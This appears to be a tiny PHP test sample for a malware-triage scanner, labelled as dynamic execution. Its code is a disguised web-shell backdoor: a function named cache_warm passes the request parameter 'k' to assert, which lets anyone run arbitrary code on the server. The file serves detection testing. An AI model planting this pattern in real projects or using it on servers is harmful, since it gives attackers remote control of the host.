<?php
// triage-expect: triage_php_tiny_dynamic_exec
function cache_warm($handler) { $handler(@$_REQUEST['k']); }
cache_warm(assert);
